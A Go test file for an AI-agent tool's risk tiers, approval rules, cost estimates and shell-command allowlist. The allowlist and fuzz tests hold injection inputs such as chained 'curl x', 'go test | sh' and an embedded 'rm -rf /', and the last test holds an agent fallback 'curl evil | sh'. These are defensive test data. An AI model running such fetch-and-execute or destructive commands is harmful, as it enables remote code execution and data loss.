package risk_test

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"pawl/internal/metric"
	"pawl/internal/spec"
	"pawl/internal/steward/charter"
	"pawl/internal/steward/risk"
	"pawl/internal/steward/task"
	"pawl/test/harness/tier"
)

var project = []string{
	"AGENTS.md", "README.md", "docs/use.md", "docs/rules/a.md", "src/main.go", "src/main_test.go", "src/a.go", "go.mod", "go.sum", "web/package.json", "web/app.ts",
	".github/workflows/ci.yml", "db/migrations/001.sql", ".github/CODEOWNERS", "ops/prod/site.yaml", "infra/main.tf", "old/Cargo.toml", "money/a.go", "examples/a/x.go",
}

func loop(scope ...string) spec.Spec {
	s := spec.Defaults()
	s.Scope = scope
	return s
}

func usd(text string) *metric.Decimal { d := metric.MustDecimal(text); return &d }

func TestS3_TheTierIsThatOfTheStrictestRule(t *testing.T) {
	fresh := func(s spec.Spec) spec.Spec { s.NewFiles = spec.Allow; return s }
	ask := loop("src/**", "AGENT*.md")
	ask.NewFiles = spec.Ask
	protected := loop("**/*.md", "src/**")
	protected.Protect = []string{"AGENTS.md"}
	off, opened, allowed, network, hosts := loop("src/**"), loop("src/**"), loop("docs/**"), loop("src/**"), loop("src/**")
	network.Sandbox.Network = spec.Open
	hosts.Sandbox.Hosts = []string{"paste.example"}
	off.Sandbox.Use = spec.Off
	opened.Sandbox.Allow = []string{"/var/cache"}
	allowed.Permissions = map[string][]string{spec.RoleReviewer: {spec.CanEditSource}}
	deploys := loop("src/**")
	deploys.Verify.Command = "./to-live --now"
	goal := loop("src/**")
	goal.Goal = "Speed up prod"
	sealed := loop("go.mod", "src/a.go")
	sealed.Protect = []string{"go.mod"}
	builds := loop("src/**")
	builds.Verify.Command = "npm ci --production"
	for _, c := range []struct {
		name  string
		title string
		specs []spec.Spec
		cost  string
		want  task.Tier
		why   string
	}{
		{"code is T3", "", []spec.Spec{loop("src/**")}, "", task.T3, "T3: no rule matched (otherwise)"},
		{"documentation is T0", "", []spec.Spec{loop("docs/*.md", "**/*.rst")}, "", task.T0, "T0: nothing but documentation and tests may change (documentation)"},
		{"so are tests", "", []spec.Spec{loop("src/*_test.go", "tests/**", "src/{a,b}/testdata/**")}, "", task.T0, ""},
		{"a folder beside is not", "", []spec.Spec{loop("docs/new/**"), loop("src/a.go")}, "", task.T3, ""},
		{"nor what only looks like documentation", "", []spec.Spec{loop("*/use.md*")}, "", task.T3, ""},
		{"governance is T1", "", []spec.Spec{loop("*.md")}, "", task.T1, "T1: AGENTS.md may change, and your spec calls it a governance file (governance)"},
		{"a file that is there is named once", "", []spec.Spec{fresh(loop("*.md"))}, "", task.T1, "T1: AGENTS.md may change, and your spec calls it a governance file (governance)"},
		{"several governance files", "", []spec.Spec{loop("*.md", "docs/**")}, "", task.T1, " may change, and your spec calls them governance files (governance)"},
		{"also in a folder", "", []spec.Spec{loop("docs/**")}, "", task.T1, "docs/rules/a.md"},
		{"not where it is protected", "", []spec.Spec{protected}, "", task.T1, "docs/rules/a.md"},
		{"not where no file is", "", []spec.Spec{loop("docs/new/**")}, "", task.T0, ""},
		{"but where one may come into being", "", []spec.Spec{fresh(loop("docs/r*/**"))}, "", task.T1, "a new file like docs/rules/**"},
		{"or may be asked for", "", []spec.Spec{ask}, "", task.T1, "AGENTS.md may change"},
		{"production by its paths", "", []spec.Spec{loop("ops/**")}, "", task.T1, "T1: ops/prod/site.yaml: what runs in production (production)"},
		{"by the charter's paths", "", []spec.Spec{loop("web/live/**"), fresh(loop("web/live/**"))}, "", task.T1, "a new file like web/live/**"},
		{"by a word", "Restart PROD now", []spec.Spec{loop("src/**")}, "", task.T1, `the word "prod"`},
		{"by the charter's word", "Push it to  the\nlive   site", []spec.Spec{loop("src/**")}, "", task.T1, `the word "live site"`},
		{"by a word of a loop's goal", "", []spec.Spec{goal}, "", task.T1, `the word "prod"`},
		{"a part of a word is none", "Improve reproduction of products", []spec.Spec{loop("src/**")}, "", task.T3, ""},
		{"by a command with the charter's word", "", []spec.Spec{deploys}, "", task.T1, `the word "to-live"`},
		{"a build for production is no change of it", "", []spec.Spec{builds}, "", task.T3, ""},
		{"dependencies are T2", "", []spec.Spec{loop("go.*")}, "", task.T2, "T2: go.mod, go.sum: which third-party code is used (dependencies)"},
		{"but not if they are protected", "", []spec.Spec{sealed}, "", task.T3, ""},
		{"anywhere", "", []spec.Spec{loop("web/**")}, "", task.T2, "web/package.json"},
		{"in any case of letters", "", []spec.Spec{loop("old/*")}, "", task.T2, "old/Cargo.toml"},
		{"new ones at the root", "", []spec.Spec{fresh(loop("*.toml"))}, "", task.T2, "a new file like cargo.toml"},
		{"by an ending that the scope names", "", []spec.Spec{fresh(loop("net/*.tf"))}, "", task.T1, "a new file like **/*.tf"},
		{"not in every folder", "", []spec.Spec{fresh(loop("src/**"))}, "", task.T3, ""},
		{"CI is T2", "", []spec.Spec{loop(".github/**/*.yml")}, "", task.T2, "(ci)"},
		{"migrations are T2", "", []spec.Spec{loop("db/")}, "", task.T2, "T2: db/migrations/001.sql: existing data (migrations)"},
		{"permissions are T2", "", []spec.Spec{loop(".github/C*")}, "", task.T2, "(permissions)"},
		{"no sandbox is T2", "", []spec.Spec{off}, "", task.T2, "sandbox.use is off"},
		{"a hole in it too", "", []spec.Spec{opened}, "", task.T2, "sandbox.allow opens /var/cache"},
		{"and the machine's own network", "", []spec.Spec{network}, "", task.T2, "sandbox.network is open"},
		{"and hosts that the charter does not name", "", []spec.Spec{hosts}, "", task.T2, "sandbox.hosts names paste.example"},
		{"and a permission that its role has not by itself", "", []spec.Spec{allowed}, "", task.T1, "permissions.reviewer has canEditSource"},
		{"an estimate above the limit is T2", "", []spec.Spec{loop("src/**")}, "5.01", task.T2, "T2: an estimate of $5.01: more than limits.costUSD (cost)"},
		{"and what the plan expects above it", "", []spec.Spec{loop("src/**")}, "1 planned 6", task.T2, "T2: an estimate of $6.00 by its plan: more than limits.costUSD (cost)"},
		{"an estimate of the limit is not", "", []spec.Spec{loop("src/**")}, "5.00", task.T3, ""},
		{"all in one", "", []spec.Spec{loop("**")}, "", task.T1, "(ci)"},
		{"a rule of the charter by paths", "", []spec.Spec{loop("m*/a.*")}, "", task.T1, "T1: money/a.go: the charter's own rule (tiers[0])"},
		{"which comes first if it is the strictest", "", []spec.Spec{loop("m*/a.*", "go.mod")}, "", task.T1, "(tiers[0]); T2: go.mod"},
		{"by words", "Change the pricing", []spec.Spec{loop("src/main.go")}, "", task.T2, `T2: the word "pricing": the charter's own rule (tiers[1])`},
		{"by files", "", []spec.Spec{loop("src/m*", "web/app.ts", "docs/use.md", "README.md")}, "", task.T2, "T2: 5 files: the charter's own rule (tiers[2])"},
		{"by cost", "", []spec.Spec{loop("src/main.go")}, "3", task.T2, "an estimate of $3.00: the charter's own rule (tiers[3])"},
		{"a rule of T0 adds to what is T0", "", []spec.Spec{loop("examples/a/**")}, "", task.T0, ""},
		{"and makes nothing else T0", "", []spec.Spec{loop("examples/a/**", "src/main.go")}, "", task.T3, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			five := 5
			ch := charter.Charter{
				Governance: []string{"AGENTS.md", "docs/rules/**"}, Production: []string{"live site", "web/live/**", "to-live", " "},
				Limits: charter.Limits{CostUSD: usd("5")},
				Tiers: []charter.Rule{
					{Tier: task.T1, Paths: []string{"money/**"}}, {Tier: task.T2, Words: []string{"pricing"}}, {Tier: task.T2, Files: &five}, {Tier: task.T2, CostUSD: usd("3.0")}, {Tier: task.T0, Paths: []string{"examples/**"}},
				},
			}
			w := risk.Work{Task: task.Task{Title: c.title}, Specs: c.specs, Files: project}
			if c.cost != "" {
				high, planned, _ := strings.Cut(c.cost, " planned ")
				w.Estimate = task.Cost{N: 3, Median: usd("0.1"), Percentile90: usd(high)}
				if planned != "" {
					w.Estimate.Planned = usd(planned)
				}
				if c.name != "by cost" {
					ch.Tiers = ch.Tiers[:3]
				}
			}
			got := risk.Assess(ch, w)
			require.Equal(t, c.want, got.Tier, got.Why)
			require.Equal(t, risk.ByRules, got.By)
			require.Contains(t, task.BesideAll(got.Why, ""), c.why)
			require.Equal(t, strings.Contains(task.BesideAll(got.Why, ""), "(governance)"), got.Governs)
			require.Equal(t, strings.Contains(task.BesideAll(got.Why, ""), "(production)"), got.Production)
		})
	}
}

func TestTheSandboxOfTheChartersDefaultsIsNoRisk(t *testing.T) {
	c := charter.Charter{Defaults: json.RawMessage(`{"sandbox":{"allow":["/var/mirror"],"hosts":["proxy.example"]}}`)}
	for _, x := range []struct {
		sandbox spec.Sandbox
		why     string
	}{
		{spec.Sandbox{Allow: []string{"/var/mirror"}, Hosts: []string{"proxy.example"}}, "T3: no rule matched"},
		{spec.Sandbox{Allow: []string{"/var/mirror", "/var/cache"}, Hosts: []string{"proxy.example"}}, "T2: sandbox.allow opens /var/cache:"},
		{spec.Sandbox{Hosts: []string{"proxy.example", "paste.example"}}, "T2: sandbox.hosts names paste.example:"},
		{spec.Sandbox{}, "T2: sandbox.hosts names no host, so every host is allowed"},
		{spec.Sandbox{Network: spec.None}, "T3: no rule matched"},
	} {
		s := loop("src/**")
		s.Sandbox = x.sandbox
		require.Contains(t, risk.Assess(c, risk.Work{Specs: []spec.Spec{s}, Files: project}).Why[0].Beside(""), x.why)
	}
}

func TestS3_ThePlannerOnlyRaisesTheTierAndAPersonSetsIt(t *testing.T) {
	c := charter.Charter{Governance: []string{"AGENTS.md"}}
	for _, x := range []struct {
		scope           string
		planner, person task.Tier
		want            task.Tier
		by              string
	}{
		{"src/**", "", "", task.T3, risk.ByRules},
		{"src/**", task.T2, "", task.T2, risk.ByPlanner},
		{"src/**", task.T0, "", task.T3, risk.ByRules},
		{"src/**", task.T3, "", task.T3, risk.ByRules},
		{"docs/**", task.T3, "", task.T3, risk.ByPlanner},
		{"*.md", task.T2, "", task.T1, risk.ByRules},
		{"*.md", task.T2, task.T0, task.T0, risk.ByPerson},
		{"src/**", task.T2, task.T1, task.T1, risk.ByPerson},
	} {
		a := risk.Assess(c, risk.Work{Task: task.Task{Tier: x.person}, Planner: x.planner, Specs: []spec.Spec{loop(x.scope)}, Files: project})
		require.Equal(t, x.want, a.Tier)
		require.Equal(t, x.by, a.By)
		require.Equal(t, x.scope == "*.md", a.Governs, "whoever sets the tier")
		require.Contains(t, a.Why[0].Beside(""), string(x.want))
	}
}

// TestS3_MoreThatMayChangeNeverLowersTheTier adds scopes, files and words at random. Without -tags nightly it tries
// fewer of them.
func TestS3_MoreThatMayChangeNeverLowersTheTier(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	globs := append([]string{"**", "src/**", "docs/**", "**/*.md", "*.tf", "{a,docs}/**", "web/*", "te?ts/**", "[a-z]*.md", "**/testdata/**", ".github/"}, project...)
	words := strings.Fields("make it faster in prod and the docs pricing")
	c := charter.Charter{Governance: []string{"AGENTS.md"}, Tiers: []charter.Rule{{Tier: task.T0, Paths: []string{"a/**"}}, {Tier: task.T2, Words: []string{"pricing"}}}}
	rounds := 60
	if tier.Nightly {
		rounds = 300
	}
	for range rounds {
		s := loop()
		s.NewFiles = []string{spec.Deny, spec.Ask, spec.Allow}[r.IntN(3)]
		w := risk.Work{Specs: []spec.Spec{s}}
		last := -1
		for range 8 {
			switch r.IntN(4) {
			case 0:
				w.Files = append(w.Files, project[r.IntN(len(project))])
			case 1:
				w.Task.Body += " " + words[r.IntN(len(words))]
			case 2:
				w.Specs = append(w.Specs, loop(globs[r.IntN(len(globs))]))
			default:
				i := r.IntN(len(w.Specs))
				w.Specs[i].Scope = append(w.Specs[i].Scope, globs[r.IntN(len(globs))])
			}
			rank := risk.Rank(risk.Assess(c, w).Tier)
			require.GreaterOrEqual(t, rank, last, w)
			last = rank
		}
	}
}

func TestS3_ManyFilesAreARisk(t *testing.T) {
	var files []string
	for i := range 1001 {
		files = append(files, fmt.Sprintf("src/%d.go", i))
	}
	at := func(n int) risk.Assessment {
		return risk.Assess(charter.Charter{}, risk.Work{Specs: []spec.Spec{loop("src/**")}, Files: files[:n]})
	}
	require.Equal(t, task.T3, at(1000).Tier)
	require.Equal(t, task.T2, at(1001).Tier)
	require.Equal(t, "T2: 1001 files: more than 1000 files may change (size)", task.BesideAll(at(1001).Why, ""))
}

func TestS3_ReasonsAreShortAndOnOneLine(t *testing.T) {
	files := []string{"a/go.mod", "b/go.mod", "c\nd\u202e/go.mod", "e/go.mod", "f/go.mod", "g/go.mod", strings.Repeat("h", 5000) + "/go.mod"}
	a := risk.Assess(charter.Charter{}, risk.Work{Specs: []spec.Spec{loop("*/*")}, Files: files})
	require.Equal(t, `T2: a/go.mod, b/go.mod, "c\nd\u202e/go.mod", e/go.mod, f/go.mod and 2 more: which third-party code is used (dependencies)`, task.BesideAll(a.Why, ""))
}

func TestEveryRuleHasItsWords(t *testing.T) {
	seen := map[string]bool{}
	last := len(task.Tiers)
	for _, r := range risk.Rules {
		require.False(t, seen[r.Name])
		seen[r.Name] = true
		require.NotEmpty(t, r.Why)
		require.LessOrEqual(t, risk.Rank(r.Tier), last)
		last = risk.Rank(r.Tier)
		for _, glob := range r.Globs {
			require.Equal(t, strings.ToLower(glob), glob, "built-in globs are in lower case")
		}
	}
}

func TestS4_WhoHasToApprove(t *testing.T) {
	five := usd("5")
	estimate := func(high string) task.Cost { return task.Cost{N: 9, Median: usd("1"), Percentile90: usd(high)} }
	for _, c := range []struct {
		name                string
		tier                task.Tier
		governs, production bool
		estimate            task.Cost
		actual              string
		limit               *metric.Decimal
		want                []string
	}{
		{"T0 by itself", task.T0, false, false, task.Cost{}, "0", five, nil},
		{"T3 by itself", task.T3, false, false, estimate("5.00"), "5.000", five, nil},
		{"T2", task.T2, false, false, task.Cost{}, "0", nil, []string{"the tier is T2"}},
		{"T1", task.T1, false, false, task.Cost{}, "0", nil, []string{"the tier is T1"}},
		{"no tier at all", "", false, false, task.Cost{}, "0", nil, []string{"the tier is "}},
		{"governance, whatever the tier", task.T0, true, false, task.Cost{}, "0", nil, []string{"governance files may change"}},
		{"production, whatever the tier", task.T3, false, true, task.Cost{}, "0", nil, []string{"production is touched"}},
		{"an estimate above the limit", task.T3, false, false, estimate("5.001"), "0", five, []string{"the estimate of $5.001 is above limits.costUSD, $5.00"}},
		{"what the plan says above the limit", task.T3, false, false, task.Cost{Median: usd("6")}, "0", five, []string{"the estimate of $6.00 by its plan is above limits.costUSD, $5.00"}},
		{"S4: the plan's own cost above the limit, beside a lower estimate", task.T3, false, false, risk.WithPlanned(estimate("1"), &task.Cost{Median: usd("6")}), "0", five, []string{"the estimate of $6.00 by its plan is above limits.costUSD, $5.00"}},
		{"S4: the plan's own cost at the limit", task.T3, false, false, risk.WithPlanned(estimate("1"), &task.Cost{Median: usd("5.0")}), "0", five, nil},
		{"S4: a lower cost of the plan takes nothing from the estimate", task.T3, false, false, risk.WithPlanned(estimate("7"), &task.Cost{Median: usd("0.01")}), "0", five, []string{"the estimate of $7.00 is above limits.costUSD, $5.00"}},
		{"what was spent above the limit", task.T3, false, false, estimate("1"), "5.01", five, []string{"the $5.01 that were spent are above limits.costUSD, $5.00"}},
		{"no limit", task.T3, false, false, estimate("500"), "600", nil, nil},
		{"everything", task.T1, true, true, estimate("9"), "9", five, []string{"the tier is T1", "governance files may change", "production is touched", "the estimate of $9.00 is above limits.costUSD, $5.00", "the $9.00 that were spent are above limits.costUSD, $5.00"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			var texts []string
			for _, need := range risk.NeedsApproval(c.tier, c.governs, c.production, c.estimate, metric.MustDecimal(c.actual), c.limit) {
				texts = append(texts, need.Text)
			}
			require.Equal(t, c.want, texts)
		})
	}
}

func TestS3_AnEstimateIsWhatLikeTasksHaveCost(t *testing.T) {
	past := func(costs ...string) (all []task.Usage) {
		for _, c := range costs {
			all = append(all, task.Usage{CostUSD: metric.MustDecimal(c)})
		}
		return all
	}
	for _, c := range []struct {
		past  []task.Usage
		words string
	}{
		{nil, "no estimate (n = 0)"},
		{past("1.5"), "$1.50 in the median, $1.50 at the 90th percentile (n = 1)"},
		{past("3", "1"), "$1.00 in the median, $3.00 at the 90th percentile (n = 2)"},
		{past("10", "2", "1", "3", "9", "4", "8", "5", "7", "6"), "$5.00 in the median, $9.00 at the 90th percentile (n = 10)"},
		{past("11", "10", "2", "1", "3", "9", "4", "8", "5", "7", "6"), "$6.00 in the median, $10.00 at the 90th percentile (n = 11)"},
		{past("0.005", "0.333333333333333333"), "$0.005 in the median, $0.33 at the 90th percentile (n = 2)"},
	} {
		require.Equal(t, c.words, risk.InWords(risk.Estimate(c.past)))
	}
	require.Equal(t, "$2.00 by the plan; no estimate (n = 0)", risk.InWords(risk.WithPlanned(task.Cost{}, &task.Cost{Median: usd("2")})))
	both := risk.WithPlanned(risk.Estimate(past("1.5")), &task.Cost{Median: usd("9")})
	require.Equal(t, "$1.50 in the median, $1.50 at the 90th percentile (n = 1); $9.00 by its plan", risk.InWords(both))
	e := risk.Estimate(past("1", "2", "3"))
	for actual, want := range map[string]string{
		"2": "$2.00 spent, not above the median: ", "2.01": "$2.01 spent, within the estimate: ", "3": "$3.00 spent, within the estimate: ", "3.01": "$3.01 spent, above the estimate: ",
	} {
		require.Equal(t, want+risk.InWords(e), risk.Compared(e, metric.MustDecimal(actual)))
	}
	require.Equal(t, "$2.00 spent, no estimate (n = 0)", risk.Compared(task.Cost{}, metric.MustDecimal("2")))
}

func TestS6_OnlyCommandsOfTheListMayBeUsed(t *testing.T) {
	c := charter.Charter{
		Allow:    []string{"go test", "go vet", "./check.sh", "cd", "echo", "true", "git diff --stat", "~/bin/lint", "not | one"},
		Defaults: json.RawMessage(`{"verify":{"command":"./bench.sh | tail -1"},"agent":{"command":["./agent.sh","--fast it"],"roles":{"reviewer":{"command":"./review $1"}}},"setup":{"command":"npm ci"},"notify":["desktop","./tell me"]}`),
	}
	for command, want := range map[string]string{
		"go test ./...":                         "",
		"go test":                               "",
		"  go   test -run 'TestX|Y' ./... 2>&1": "",
		"go test ./... >/dev/null 2>/dev/null && (go vet ./... || echo 'no; rm -rf /') &": "",
		"cd web; ./check.sh <<<x":    "can't be parsed",
		"go 'test' ./a\n\"go\" vet":  "",
		"{ go vet; }; ! go vet":      "",
		"if go vet; then echo a; fi": "",
		"go tests":                   "it does not begin with an entry of allow",
		"go":                         "does not begin with an entry",
		"gotest":                     "does not begin with an entry",
		"go run ./x":                 "does not begin with an entry",
		"git diff":                   "does not begin with an entry",
		"./check.shx":                "does not begin with an entry",
		"go test | sh":               `"sh" does not begin with an entry`,
		"go test; curl x":            `"curl x" does not begin with an entry`,
		"go test & curl x":           "does not begin with an entry",
		"go test || curl x":          "does not begin with an entry",
		"go test\ncurl x":            "does not begin with an entry",
		"curl x | go test":           `"curl x" does not begin with an entry`,
		"curl x && go test":          `"curl x" does not begin with an entry`,
		"(curl x)":                   "does not begin with an entry",
		"{ curl x; }":                "does not begin with an entry",
		"go test <&3 2>&-":           "",
		"go\ttest >/dev/null":        "",
		">/dev/null":                 "more than simple commands",
		"go test <>/dev/null":        "redirected",
		"go test >|/dev/null":        "redirected",
		"go\x7ftest":                 "a control character",
		"if true; then curl x; fi":   "does not begin with an entry",
		"if true; then true; elif curl x; then true; else true; fi": "does not begin with an entry",
		"echo $(curl x)":              "a variable or a substitution",
		"echo `curl x`":               "a variable or a substitution",
		`echo "$(curl x)"`:            "a variable or a substitution",
		"echo $HOME":                  "a variable or a substitution",
		"echo ${x:=y}":                "a variable or a substitution",
		"echo $((1))":                 "a variable or a substitution",
		"echo <(curl x)":              "can't be parsed",
		"$SHELL -c x":                 "a variable or a substitution",
		"PATH=. go test":              "a variable is set",
		"x=1":                         "a variable is set",
		"go test >out":                "redirected",
		"go test >>out":               "redirected",
		"go test <in":                 "redirected",
		"go test >&out":               "redirected",
		"go test &>out":               "can't be parsed",
		"go test <<E\nx\nE":           "redirected",
		"(echo a) >out":               "redirected",
		"echo() { curl x; }; echo":    "more than simple commands",
		"while true; do echo a; done": "more than simple commands",
		"for i in a; do echo a; done": "more than simple commands",
		"case a in a) echo a;; esac":  "more than simple commands",
		"true $'\\'' ; curl x '":      "shells read in different ways",
		"true $'a'":                   "shells read in different ways",
		`true $"a"`:                   "shells read in different ways",
		"go test 'x":                  "can't be parsed",
		"":                            "not a command",
		"# go test":                   "not a command",
		"go\x00test":                  "a control character",
		"go test\r":                   "a control character",
		"'~/bin/lint'":                "does not begin with an entry",
		"~/bin/lint .":                "",
		"not":                         "does not begin with an entry",
		"g\\o test":                   "does not begin with an entry",
		"time go test":                "more than simple commands",
		"./bench.sh | tail -1":        "",
		"./bench.sh | tail -2":        "does not begin with an entry",
		"npm ci":                      "",
		"npm ci x":                    "does not begin with an entry",
		"./agent.sh '--fast it'":      "",
		"./review $1":                 "",
		"./tell me":                   "",
		"desktop":                     "does not begin with an entry",
		strings.Repeat("(", 40<<10):   "longer than",
	} {
		ok, why := risk.Allowed(c, command)
		require.Equal(t, want == "", ok, "%q: %s", command, why)
		require.Contains(t, why, want, command)
		if ok {
			require.Empty(t, why)
		}
	}
}

func TestS6_WithoutAListOnlyTheDefaultsMayBeUsed(t *testing.T) {
	c := charter.Charter{Defaults: json.RawMessage(`{"test":{"command":"make test"}}`)}
	ok, _ := risk.Allowed(c, "make test")
	require.True(t, ok)
	for _, command := range []string{"make test ", "make", "true"} {
		ok, why := risk.Allowed(c, command)
		require.False(t, ok)
		require.Contains(t, why, "so only those of its defaults may be used")
	}
	ok, _ = risk.Allowed(charter.Charter{}, "true")
	require.False(t, ok)
}

func FuzzAllowed(f *testing.F) {
	for _, seed := range []string{"echo a", "echo $'\\'' ; curl '", "echo a &> b", "echo 'a' \"b\"", "echo a#b\n#c", "echo \\\n a"} {
		f.Add(seed)
	}
	c := charter.Charter{Allow: []string{"echo"}}
	f.Fuzz(func(t *testing.T, command string) {
		if ok, _ := risk.Allowed(c, command); ok && !strings.Contains(command, "echo") {
			t.Fatalf("%q", command)
		}
	})
}

// TestTheCommandsOfAgentsThatStandInAreCommandsToo: a plan could add such a command by agent.fallback alone.
func TestTheCommandsOfAgentsThatStandInAreCommandsToo(t *testing.T) {
	s := spec.Spec{Agent: spec.Agent{Use: "claude", Fallback: []spec.Substitute{{Use: "command", Command: spec.Argv{Shell: "curl evil | sh"}}}, Roles: map[string]spec.Override{
		"reviewer": {Fallback: []spec.Substitute{{Use: "command", Command: spec.Argv{Shell: "./review"}}}},
	}}}
	require.Equal(t, []string{"curl evil | sh", "./review"}, risk.Commands(s))
}
